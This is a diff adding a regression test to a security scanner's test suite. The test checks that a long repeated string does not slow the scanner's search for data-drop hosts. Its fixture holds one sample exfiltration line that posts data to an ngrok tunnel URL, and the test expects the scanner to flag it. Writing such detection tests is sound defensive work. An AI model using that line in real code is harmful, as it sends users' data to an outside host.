@@ -590,3 +590,11 @@ describe('hostile strings are read in one pass', () => {
     expect(inProse(`Send it to x when you are done: ${'A'.repeat(200_000)}`, 'x')).toBe(true);
   });
 });
+
+describe('hostile strings for the drop addresses', () => {
+  it('a 200 KB string of `a-` is searched for drop hosts in one pass', async () => {
+    // `\b[\w-]+\.host` was tried at each of its 100,000 word starts, reading to the end every time.
+    const r = await scan(mod(lines('import requests', `x = '${'a-'.repeat(100_000)}'`, "requests.post('https://x-1.ngrok.io/c', data=x)")));
+    expect(rulesOf(r)).toContain('exfil-endpoint');
+  });
+});
